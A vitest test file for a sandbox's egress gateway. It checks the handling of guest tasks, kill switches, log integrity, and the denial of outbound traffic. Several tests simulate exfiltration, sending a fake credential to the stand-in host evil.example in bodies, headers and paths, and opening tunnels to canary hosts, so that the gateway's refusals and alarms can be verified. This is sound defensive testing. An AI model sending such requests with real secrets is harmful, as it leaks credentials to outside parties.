import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { duplexPair } from "node:stream";
import { setTimeout as sleep } from "node:timers/promises";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { systemClock } from "../../src/base/clock.ts";
import { Stopped } from "../../src/base/errors.ts";
import { exec } from "../../src/base/exec.ts";
import type { Alarm, Gateway, GuestRequest } from "../../src/egress/egress.ts";
import { type GatewayOptions, startGateway } from "../../src/egress/gateway.ts";
import { verifyRecord } from "../../src/egress/verifyRecord.ts";
import type { Task } from "../../src/guest/wire.ts";
import type { Role } from "../../src/sandbox/sandbox.ts";
import { socketPair as handed } from "../../src/sandbox/socketPair.ts";
import { setLatch } from "../../src/stop/latch.ts";
import { fakeShim, resultOf } from "../support/fakeShim.ts";
import { socketPair } from "../support/socketPair.ts";
import { upstream } from "../support/upstream.ts";

let directory: string;
let gateways: Gateway[];
let alarms: Alarm[];
let requests: GuestRequest[];
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "wd-gateway-"));
  gateways = [];
  alarms = [];
  requests = [];
});
afterEach(async () => {
  for (const gateway of gateways) await gateway.cut("the test ended");
  rmSync(directory, { recursive: true, force: true });
});

async function start(over: Partial<GatewayOptions> = {}): Promise<Gateway> {
  const gateway = await startGateway({
    cycle: "c1",
    runDirectory: join(directory, "run"),
    allowlists: [],
    canaryHosts: ["canary.example"],
    onRequest: async (request) => {
      requests.push(request);
      return { status: 200, body: { heard: request.path } };
    },
    onAlarm: (alarm) => alarms.push(alarm),
    signal: new AbortController().signal,
    ...over,
  });
  gateways.push(gateway);
  return gateway;
}

async function bring(gateway: Gateway, role: Role = "lab", name = `wd-c1-${role}-0`) {
  const [inside, outside] = await socketPair();
  const guest = await gateway.attach({ name, role, channel: outside });
  return { guest, shim: fakeShim(inside), channel: outside };
}

const TASK: Omit<Task, "id"> = {
  run: { program: "probe", args: [] },
  env: {},
  cwd: "/",
  stdin: "",
  timeoutMs: 5_000,
  outputBytesMax: 1_000,
};

function log(gateway: Gateway): Record<string, unknown>[] {
  const lines = readFileSync(gateway.logPath, "utf8").trimEnd().split("\n");
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** The last of them is written when its flow is over, which may be a moment after its answer. */
async function logged(gateway: Gateway, lines: number): Promise<Record<string, unknown>[]> {
  await expect.poll(() => log(gateway)).toHaveLength(lines);
  return log(gateway);
}

const never = new AbortController().signal;

describe("a guest", () => {
  test("says hello once", async () => {
    const gateway = await start();
    const { guest, shim } = await bring(gateway);
    expect((await shim.hello()).status).toBe(200);
    expect(await guest.hello).toEqual({ node: "v24.0.0", pid: 1 });
    expect((await shim.hello()).status).toBe(409);
    await expect.poll(() => gateway.refused()).toEqual({ [guest.name]: 1 });
  });

  test("gets tasks one at a time, and its results come back", async () => {
    const { guest, shim } = await bring(await start());
    const first = guest.run({ ...TASK, stdin: "one" }, never);
    const second = guest.run({ ...TASK, stdin: "two" }, never);
    const one = await shim.takeTask();
    expect(one).toMatchObject({ ...TASK, stdin: "one" });
    const poll = shim.takeTask();
    expect((await shim.tell("POST", `/v1/task/${one.id}`, resultOf(one.id, "1"))).status).toBe(200);
    expect(await first).toMatchObject({ code: 0, stdout: "1" });
    const two = await poll;
    expect(two.stdin).toBe("two");
    await shim.tell("POST", `/v1/task/${two.id}`, resultOf(two.id, "2"));
    expect(await second).toMatchObject({ stdout: "2" });
    expect((await shim.tell("POST", `/v1/task/${two.id}`, resultOf(two.id))).status).toBe(404);
  });

  test("has a heartbeat that is answered and not logged, unless it is of another shape", async () => {
    const gateway = await start();
    const { shim } = await bring(gateway);
    for (let i = 0; i < 3; i++) expect((await shim.tell("POST", "/v1/heartbeat", {})).status).toBe(200);
    expect(readFileSync(gateway.logPath, "utf8")).toBe("");
    expect((await shim.tell("POST", "/v1/heartbeat", { more: 1 })).status).toBe(422);
    expect(await logged(gateway, 2)).toMatchObject([
      { path: "/v1/heartbeat" },
      { status: 422, reason: "body-shape" },
    ]);
  });

  test("that hands in no result makes its task fail, is refused and is counted", async () => {
    const gateway = await start();
    const { guest, shim } = await bring(gateway);
    const bodies = ["not json", JSON.stringify({ id: "t1" }), JSON.stringify(resultOf("another"))];
    for (const [i, body] of bodies.entries()) {
      const run = guest.run(TASK, never);
      const { id } = await shim.takeTask();
      const [reply, outcome] = await Promise.all([
        shim.tell("POST", `/v1/task/${id}`, body),
        run.then(
          () => "it came back",
          (error: Error) => error.message,
        ),
      ]);
      expect(reply.status).toBe(i === 0 ? 400 : 422);
      expect(outcome).toMatch(/handed in no result of t\d: body-/);
    }
    await expect.poll(() => gateway.refused()).toEqual({ [guest.name]: 3 });
  });

  test("whose task is aborted is not waited for, and its late result is thrown away", async () => {
    const { guest, shim } = await bring(await start());
    const stop = new AbortController();
    const run = guest.run(TASK, stop.signal);
    const { id } = await shim.takeTask();
    stop.abort(new Stopped("enough"));
    await expect(run).rejects.toThrow("stopped: enough");
    await expect.poll(async () => (await shim.tell("POST", `/v1/task/${id}`, resultOf(id))).status).toBe(200);
  });
});

describe("a message to CONTROL", () => {
  test("names the sandbox by its channel, whatever it says of itself", async () => {
    const { guest, shim } = await bring(await start(), "target");
    const reply = await shim.tell("POST", "/v1/alarm?x=1", { sandbox: "another", decoy: "d" });
    expect(reply).toMatchObject({ status: 200, text: JSON.stringify({ heard: "/v1/alarm?x=1" }) });
    expect((await shim.tell("GET", "/v1/brief")).status).toBe(200);
    const body = { sandbox: "another", decoy: "d" };
    expect(requests).toEqual([
      { sandbox: guest.name, role: "target", method: "POST", path: "/v1/alarm?x=1", body },
      { sandbox: guest.name, role: "target", method: "GET", path: "/v1/brief", body: null },
    ]);
  });

  test("that is no JSON, or too long, is refused and counted, and CONTROL never sees it", async () => {
    const gateway = await start();
    const { guest, shim } = await bring(gateway);
    expect((await shim.tell("POST", "/v1/note", "{")).status).toBe(400);
    expect((await shim.tell("POST", "/v1/note", "\xff")).status).toBe(400);
    expect((await shim.tell("POST", "/v1/note", `"${"a".repeat(1_048_577)}"`)).status).toBe(413);
    expect(
      (await shim.ask({ ":method": "PUT", ":authority": "broker.weakdoor.internal", ":path": "/v1/x" }, "")).status,
    ).toBe(404);
    await expect.poll(() => gateway.refused()).toEqual({ [guest.name]: 4 });
    expect(requests).toEqual([]);
    expect((await shim.tell("POST", "/v1/note", `"${"a".repeat(1_000_000)}"`)).status).toBe(200);
  });

  test("that CONTROL cannot take cuts the gateway: the work stops", async () => {
    const trouble = new Error("the ledger cannot be written");
    const gateway = await start({ onRequest: () => Promise.reject(trouble) });
    const { guest, shim } = await bring(gateway);
    await expect(shim.tell("POST", "/v1/note", {})).rejects.toThrow(/no answer/);
    expect(await gateway.died).toBe(trouble);
    await guest.closed;
    await expect.poll(() => isAlive(gateway.pid)).toBe(false);
  });
});

describe("denied and logged", () => {
  test.each([
    ["lab", { ":authority": "evil.example", ":path": "/" }, 403, "host-not-listed"],
    ["lab", { ":method": "CONNECT", ":authority": "evil.example:443" }, 403, "host-not-listed"],
    ["target", { ":authority": "model.weakdoor.internal", ":path": "/v1/messages" }, 403, "own-authority-role"],
    ["target", { ":authority": "evil.example", ":path": "/" }, 403, "role-has-no-outside"],
    ["lab", { ":authority": "source.weakdoor.internal", ":path": "/v1/osv" }, 503, "source-not-configured"],
    ["lab", { ":authority": "model.weakdoor.internal", ":path": "/v1/messages" }, 503, "model-not-configured"],
    [
      "lab",
      { ":authority": "broker.weakdoor.internal", ":path": "/v1/x", host: "evil.example" },
      400,
      "host-header-differs",
    ],
  ] as const)("%s asking for %j: %i %s", async (role, headers, status, reason) => {
    const gateway = await start();
    const { guest, shim } = await bring(gateway, role);
    const reply = await shim.ask(headers);
    expect(reply).toMatchObject({ status });
    expect(reply.text).toMatch(/\w+ .*\w/);
    const [open, close] = await logged(gateway, 2);
    expect({ ...open, ...close }).toMatchObject({
      sandbox: guest.name,
      role,
      reason,
      status,
      dialed: null,
      resolved: [],
    });
    gateway.cut("done").catch(() => undefined);
    expect(await verifyRecord(gateway.logPath)).toMatchObject({ status: "intact", lines: 2, unclosed: 0 });
  });
});

describe("the canary watch", () => {
  const value = ["wd", "fake", "0123456789abcdefghijklmnop"].join("-");
  const fake = { id: "fk-0123456789", kind: "generic", value, cycle: "c1", file: "home/.env" };
  const broker = { ":method": "POST", ":authority": "broker.weakdoor.internal", ":path": "/v1/note" };

  test.each([
    ["body", broker, JSON.stringify({ note: value })],
    ["body", broker, JSON.stringify({ note: Buffer.from(value).toString("base64") })],
    ["headers", { ...broker, authorization: `Bearer ${value}` }, "{}"],
    ["path", { ...broker, ":path": `/v1/note?x=${value}` }, "{}"],
    ["body", { ":method": "POST", ":authority": "evil.example", ":path": "/" }, value],
  ])(
    "a fake in the %s of a request is refused and rings, also when it would be denied",
    async (where, headers, body) => {
      const gateway = await start();
      const { guest, shim } = await bring(gateway);
      await gateway.watch([fake]);
      expect((await shim.tell("POST", "/v1/note", { note: "no fake" })).status).toBe(200);
      const reply = await shim.ask(headers, body);
      expect(reply).toMatchObject({ status: 403, text: "the request was refused and reported\n" });
      expect(alarms).toMatchObject([{ carrier: "fake-credential", sandbox: guest.name, subject: fake.id }]);
      expect(alarms[0]?.detail).toContain(`in the ${where}`);
      expect(requests).toHaveLength(1);
      expect(readFileSync(gateway.logPath, "utf8") + JSON.stringify(alarms)).not.toContain(value);
    },
  );

  test("a canary host answers and rings for every role; a tunnel to it rings and is denied", async () => {
    const gateway = await start();
    for (const role of ["lab", "target"] as const) {
      const { shim } = await bring(gateway, role);
      const told = [];
      for (const path of ["/", "/v1/secret?x=1"])
        told.push(await shim.ask({ ":authority": "canary.example", ":path": path }));
      expect(told).toMatchObject([{ status: 200 }, { status: 200, text: told[0]?.text }]);
      expect((await shim.ask({ ":method": "CONNECT", ":authority": "x.canary.example:443" })).status).toBe(403);
    }
    await expect.poll(() => alarms.length).toBe(6);
    expect(alarms.every(({ carrier, subject }) => carrier === "canary-host" && subject === "canary.example")).toBe(
      true,
    );
    expect(log(gateway).filter(({ event }) => event === "open")).toMatchObject(
      Array.from({ length: 6 }, () => ({ verdict: "deny", reason: "canary-host" })),
    );
  });
});

describe("the end of it", () => {
  test("a cut is over in a moment, ends every channel, and can be said twice", async () => {
    const tookMs: number[] = [];
    for (const round of [0, 1, 2]) {
      const gateway = await start({ runDirectory: join(directory, `run${round}`) });
      const guests = await Promise.all([0, 1, 2].map((n) => bring(gateway, "lab", `wd-c1-lab-${n}`)));
      const polls = guests.map(({ shim }) => shim.takeTask().catch(() => "cut"));
      const before = performance.now();
      await gateway.cut("the test says so");
      tookMs.push(performance.now() - before);
      await Promise.all(guests.map(({ guest }) => guest.closed));
      expect(await Promise.all(polls)).toEqual(["cut", "cut", "cut"]);
      expect(isAlive(gateway.pid)).toBe(false);
      expect(guests.every(({ channel }) => channel.destroyed)).toBe(true);
      await gateway.cut("again");
    }
    // The figure is the bench's; this tells a cut from a wait.
    expect(tookMs.toSorted((a, b) => a - b)[1]).toBeLessThan(1_000);
  });

  test("the kill switch cuts", async () => {
    const stop = new AbortController();
    const gateway = await start({ signal: stop.signal });
    const { guest, shim } = await bring(gateway);
    const run = guest.run(TASK, stop.signal);
    await shim.takeTask();
    stop.abort(new Stopped("a person"));
    await expect(run).rejects.toThrow(Stopped);
    await guest.closed;
    await expect(gateway.attach({ name: "x", role: "lab", channel: duplexPair()[0] })).rejects.toThrow(Stopped);
    await expect.poll(() => isAlive(gateway.pid)).toBe(false);
    await expect(start({ signal: stop.signal })).rejects.toThrow(Stopped);
  });

  test("a gateway killed from outside is noticed, and takes its guests with it", async () => {
    const gateway = await start();
    const { guest, shim, channel } = await bring(gateway);
    const run = guest.run(TASK, never).catch((error: Error) => error.message);
    await shim.takeTask();
    process.kill(gateway.pid, "SIGKILL");
    expect((await gateway.died).message).toMatch(/SIGKILL/);
    expect(await run).toMatch(/gone/);
    await guest.closed;
    await expect.poll(() => channel.destroyed).toBe(true);
    await expect(gateway.watch([])).rejects.toThrow(/gone/);
  });

  test("a sandbox that goes away ends its guest and nobody else's", async () => {
    const gateway = await start();
    const one = await bring(gateway, "target");
    const other = await bring(gateway, "lab");
    await one.shim.hello();
    one.channel.destroy();
    await one.guest.closed;
    await expect(one.guest.run(TASK, never)).rejects.toThrow(/gone/);
    expect((await other.shim.hello()).status).toBe(200);
    await expect(bring(gateway, "target")).rejects.toThrow(/was attached before/);
  });

  test("a gateway does not outlive the process that started it", async () => {
    const file = join(directory, "owner.ts");
    const gatewayFile = JSON.stringify(join(import.meta.dirname, "../../src/egress/gateway.ts"));
    writeFileSync(
      file,
      `import { startGateway } from ${gatewayFile};
      const gateway = await startGateway({ cycle: "c", runDirectory: ${JSON.stringify(join(directory, "owned"))}, allowlists: [],
        canaryHosts: [], onRequest: async () => ({ status: 200, body: null }), onAlarm() {}, signal: new AbortController().signal });
      console.log(gateway.pid);
      process.kill(process.pid, "SIGKILL");`,
    );
    const { stdout, stderr } = await exec([process.execPath, file]);
    expect({ stderr, pid: Number(stdout) }).toMatchObject({ stderr: "", pid: expect.any(Number) });
    expect(Number(stdout)).toBeGreaterThan(1);
    await expect.poll(() => isAlive(Number(stdout)), { timeout: 5_000 }).toBe(false);
  });
});

test("the model's key is in no argument, environment or log, and its calls go out with it", async () => {
  const key = ["not", "a", "real", "key"].join("-");
  await using host = await upstream((response) => response.end("{}"));
  const model = {
    kind: "openai" as const,
    baseUrl: `http://127.0.0.1:${host.port}/v1`,
    key,
    models: ["m"],
    tokensMax: 1_000,
  };
  const gateway = await start({ model });
  const { shim } = await bring(gateway);
  const call = { ":method": "POST", ":authority": "model.weakdoor.internal", ":path": "/v1/chat/completions" };
  const reply = await shim.ask(call, JSON.stringify({ model: "m", max_tokens: 5, messages: [] }));
  expect(reply.status).toBe(200);
  expect(host.seen[0]?.headers.authorization).toBe(`Bearer ${key}`);
  const places = [`/proc/${gateway.pid}/cmdline`, `/proc/${gateway.pid}/environ`, gateway.logPath];
  const told = places.map((place) => readFileSync(place, "utf8")).join();
  expect(told).toContain("gatewayProcess");
  expect(told).not.toContain(key);
  expect(readFileSync(`/proc/${gateway.pid}/environ`, "utf8")).not.toMatch(/HOME=|PATH=/);
});

describe("closed by default", () => {
  test("the latch ends it, whoever else hangs, and so does a state directory that vanishes", async () => {
    const stateDir = join(directory, "state");
    await exec(["mkdir", "-p", stateDir]);
    const gateway = await start({ stateDir });
    const { shim } = await bring(gateway);
    expect((await shim.tell("GET", "/v1/brief")).status).toBe(200);
    setLatch(stateDir, { who: "a test", why: "to see" }, systemClock);
    expect(String(await gateway.died)).toContain("the gateway process ended");
    await expect(shim.tell("GET", "/v1/brief")).rejects.toThrow(Error);
    expect(requests).toHaveLength(1);

    rmSync(join(stateDir, "KILL"));
    const next = await start({ stateDir, runDirectory: join(directory, "next") });
    const second = await bring(next);
    expect(next.holds(second.guest.name)).toBe(true);
    rmSync(stateDir, { recursive: true });
    expect(String(await next.died)).toContain("the gateway process ended");
    expect(next.holds(second.guest.name)).toBe(false);
  });

  test("it holds a channel until that is closed at its own end, too", async () => {
    const gateway = await start();
    const { guest, channel } = await bring(gateway);
    expect(gateway.holds(guest.name)).toBe(true);
    channel.destroy();
    await expect.poll(() => gateway.holds(guest.name)).toBe(false);
  });

  test("without a log nothing passes", async () => {
    const gateway = await start();
    const { guest, shim } = await bring(gateway);
    expect((await shim.tell("GET", "/v1/brief")).status).toBe(200);
    rmSync(join(directory, "run"), { recursive: true });
    expect((await shim.tell("GET", "/v1/brief")).status).toBe(503);
    expect(requests).toHaveLength(1);
    await expect.poll(() => gateway.refused()).toEqual({ [guest.name]: 1 });
    expect((await shim.tell("POST", "/v1/heartbeat", {})).status).toBe(200);
  });

  test("on a full disk nothing passes, and with room again it does, and the log is intact", async () => {
    expect(await exec(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", directory])).toMatchObject({ code: 0 });
    try {
      const gateway = await start();
      const { shim } = await bring(gateway);
      await exec(["dd", "if=/dev/zero", `of=${join(directory, "filler")}`, "bs=1k", "count=256"]);
      const statuses: number[] = [];
      while (statuses.at(-1) !== 503 && statuses.length < 100)
        statuses.push((await shim.tell("GET", "/v1/x")).status);
      expect(statuses.at(-1)).toBe(503);
      const heard = requests.length;
      expect((await shim.tell("GET", "/v1/x")).status).toBe(503);
      expect(requests).toHaveLength(heard);
      rmSync(join(directory, "filler"));
      expect((await shim.tell("GET", "/v1/x")).status).toBe(200);
      // The answer is out before its closing line is written.
      await expect.poll(() => verifyRecord(gateway.logPath)).toMatchObject({ unclosed: 0 });
      await gateway.cut("done");
      expect(await verifyRecord(gateway.logPath)).toMatchObject({ status: "intact", unclosed: 0 });
    } finally {
      await exec(["umount", "-l", directory]);
    }
  });

  test("there is no way in but by the descriptor that CONTROL hands over", async () => {
    const gateway = await start();
    await bring(gateway);
    expect(readdirSync(join(directory, "run"))).toEqual(["egress.jsonl"]);
    const unix = await exec(["ss", "-Hxlp"]);
    expect(unix.stdout).not.toContain(`pid=${gateway.pid},`);
  });

  test("a channel is handed over whole: what came before it was attached is not lost", async () => {
    const gateway = await start();
    const { near, far } = await handed();
    const shim = fakeShim(far);
    const greeted = shim.hello();
    await sleep(50);
    const guest = await gateway.attach({ name: "wd-c1-lab-0", role: "lab", channel: near });
    expect((await greeted).status).toBe(200);
    expect((await guest.hello).pid).toBe(1);
    near.destroy();
    await guest.closed;
    await expect.poll(() => shim.session.destroyed).toBe(true);
  });

  test("any other stream than a socket is a channel, too", async () => {
    const gateway = await start();
    const [near, far] = duplexPair();
    const attached = gateway.attach({ name: "wd-c1-lab-0", role: "lab", channel: near });
    const shim = fakeShim(far);
    const guest = await attached;
    expect((await shim.hello()).status).toBe(200);
    far.destroy();
    await guest.closed;
  });

  test("a run directory with a path that is too long for a socket is one for us", async () => {
    const gateway = await start({ runDirectory: join(directory, "x".repeat(120)) });
    const [near, far] = await socketPair();
    const guest = await gateway.attach({ name: "wd-c1-lab-1", role: "lab", channel: far });
    expect(guest.name).toBe("wd-c1-lab-1");
    near.destroy();
  });

  test("a run directory that cannot be one is a clear line, and no process is left", async () => {
    writeFileSync(join(directory, "run"), "a file");
    await expect(start()).rejects.toThrow(/the gateway cannot start in .*run: EEXIST/);
    const taken = join(directory, "taken");
    const first = await start({ runDirectory: taken });
    await first.cut("done");
    await expect(start({ runDirectory: taken })).rejects.toThrow(/cannot start in .*EEXIST.*egress\.jsonl/);
  });
});

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}
